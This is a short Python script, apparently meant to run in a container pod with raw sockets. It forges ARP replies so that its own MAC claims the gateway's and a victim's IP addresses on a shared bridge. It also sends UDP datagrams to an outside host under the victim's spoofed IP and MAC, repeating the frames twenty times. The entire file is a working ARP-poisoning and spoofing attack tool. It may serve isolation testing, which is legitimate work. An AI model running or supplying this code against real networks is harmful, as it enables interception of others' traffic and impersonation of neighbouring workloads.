"""Run in a service's pod that has raw sockets: take others' places on the bridge.

usage: spoofing.py VICTIM VICTIM_MAC GATEWAY GATEWAY_MAC OUTSIDE. Prints how many frames were sent.
"""

from __future__ import annotations

import fcntl
import socket
import struct
import sys

VICTIM, VICTIM_MAC, GATEWAY, GATEWAY_MAC, OUTSIDE = sys.argv[1:]
LINK, ROUNDS = "vpn0", 20
SIOCGIFHWADDR = 0x8927


def hardware(text: str) -> bytes:
    return bytes.fromhex(text.strip().replace(":", ""))


def own_hardware() -> bytes:
    """Ask the kernel: /sys may show another network."""
    with socket.socket(type=socket.SOCK_DGRAM) as any_socket:
        told = fcntl.ioctl(any_socket, SIOCGIFHWADDR, struct.pack("256s", LINK.encode()))
    return bytes(told[18:24])


def claim(address: str, receiver: bytes, owner: bytes) -> bytes:
    """Say by ARP that `owner` has the address."""
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
    arp += owner + socket.inet_aton(address) + receiver + socket.inet_aton(GATEWAY)
    return receiver + owner + b"\x08\x06" + arp


def datagram(source: str, sender: bytes) -> bytes:
    """Ask the Internet in another's name."""
    header = struct.pack("!BBHHHBBH", 0x45, 0, 36, 0, 0, 64, socket.IPPROTO_UDP, 0)
    ends = socket.inet_aton(source) + socket.inet_aton(OUTSIDE)
    total = sum(struct.unpack("!10H", header + ends))
    total = (total >> 16) + (total & 0xFFFF)
    header = header[:10] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + ends
    udp = struct.pack("!HHHH", 40000, 9, 16, 0) + b"raw data"
    return hardware(GATEWAY_MAC) + sender + b"\x08\x00" + header + udp


own = own_hardware()
frames = (
    claim(GATEWAY, hardware(VICTIM_MAC), own),
    claim(GATEWAY, b"\xff" * 6, own),
    claim(VICTIM, hardware(GATEWAY_MAC), own),
    claim(VICTIM, b"\xff" * 6, own),
    claim(VICTIM, hardware(GATEWAY_MAC), hardware(VICTIM_MAC)),
    datagram(VICTIM, own),
    datagram(VICTIM, hardware(VICTIM_MAC)),
)
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
    out.bind((LINK, 0))
    for _ in range(ROUNDS):
        for frame in frames:
            out.send(frame)
print(ROUNDS * len(frames))
